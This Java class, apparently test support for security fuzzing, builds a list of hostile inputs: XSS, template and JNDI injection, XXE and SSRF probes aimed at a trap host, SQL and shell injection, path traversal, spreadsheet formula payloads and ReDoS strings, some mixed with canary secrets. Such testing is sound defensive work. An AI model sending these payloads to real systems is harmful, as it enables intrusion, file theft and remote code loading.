package io.redress.system.hostile;

import java.util.List;
import java.util.random.RandomGenerator;

/** What people type who want to do harm, and what tools send. */
final class HostileTexts {

    /** What a template engine or a shell makes of the sums below; a page that says it has run what it was sent. */
    static final String PRODUCT = "62615533";

    /** In an answer's HTML this is a script that was let through. */
    static final String LIVE = "<img src=x onerror=redress7391()>";

    private static final String SUM = "7919*7907";

    private final Canaries canaries;
    private final List<String> texts;

    /** @param trap an address where nobody of ours may ever call */
    HostileTexts(Canaries canaries, String trap) {
        this.canaries = canaries;
        this.texts = List.of(
                LIVE,
                "\"><script>redress7391()</script>",
                "'\"--></style></script><svg/onload=redress7391()>",
                "javascript:redress7391()",
                "{{" + SUM + "}}",
                "${" + SUM + "}",
                "#{" + SUM + "}",
                "*{" + SUM + "}",
                "__${" + SUM + "}__::.x",
                "${T(java.lang.Math).multiplyExact(7919,7907)}",
                "[[${" + SUM + "}]]",
                "<%= " + SUM + " %>",
                "${jndi:ldap://" + trap + "/a}",
                "http://" + trap + "/latest/meta-data/",
                "file:///etc/passwd",
                "gopher://" + trap + "/_x",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"http://" + trap + "/xxe\">]><a>&x;</a>",
                "<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><a>&b;&b;</a>",
                "' OR '1'='1' --",
                "1; DROP TABLE case_file; --",
                "'; return true; var x='",
                "{\"$gt\":\"\"}",
                "{\"$where\":\"sleep(10000)\"}",
                "../../../../etc/passwd",
                "..\\..\\..\\windows\\win.ini",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "a\r\nX-Injected: yes\r\n\r\n<b>",
                "a%0d%0aX-Injected:%20yes",
                "to@example.org\nBcc: all@example.org",
                "\u0000\u0001\u0008\u001b[31m",
                "\u202e\u2066txt.exe\u2069\u202c",
                "\ufeff\u200b\u200d\u2028\u2029",
                "\ud83d",
                "\udc00\ud800",
                "Z̸̢̧͎̱͉̪̰͓̫̈́̍̇̃̐̎ą̴̛̭̼̠̝͋͒͊̈́l̶g̵o",
                "﷽﷽﷽﷽",
                "ﬃﬃ İıſK",
                "=cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "() { :;}; /bin/sleep 10",
                "$(sleep 10)`sleep 10`|sleep 10",
                "%s%s%s%n%n%n%x",
                "NaN",
                "-0",
                "9".repeat(400),
                "1e309",
                "true",
                "null",
                "undefined",
                "__proto__",
                "constructor.prototype",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                "a".repeat(3_000) + "!",
                "@".repeat(2_000) + "a.b",
                "a@" + "a.".repeat(120) + "!",
                "+" + "(-".repeat(900),
                " \t".repeat(1_500) + "x",
                "word ".repeat(600),
                "abandon ".repeat(400),
                "0x" + "f".repeat(2_000),
                "⟦removed:RECOVERY_PHRASE⟧");
    }

    /** One of them; every eighth carries a secret. */
    String any(RandomGenerator random) {
        String text = texts.get(random.nextInt(texts.size()));
        if (random.nextInt(8) > 0) {
            return text;
        }
        String secret = canaries.any(random);
        return switch (random.nextInt(4)) {
            case 0 -> secret;
            case 1 -> text + " " + secret;
            case 2 -> "my recovery phrase is " + secret + " please help";
            default -> secret + "\n" + text;
        };
    }

    /** One without line breaks, for places where they would end what it stands in. */
    String line(RandomGenerator random) {
        return any(random).replaceAll("[\\r\\n\\x00]", " ");
    }
}
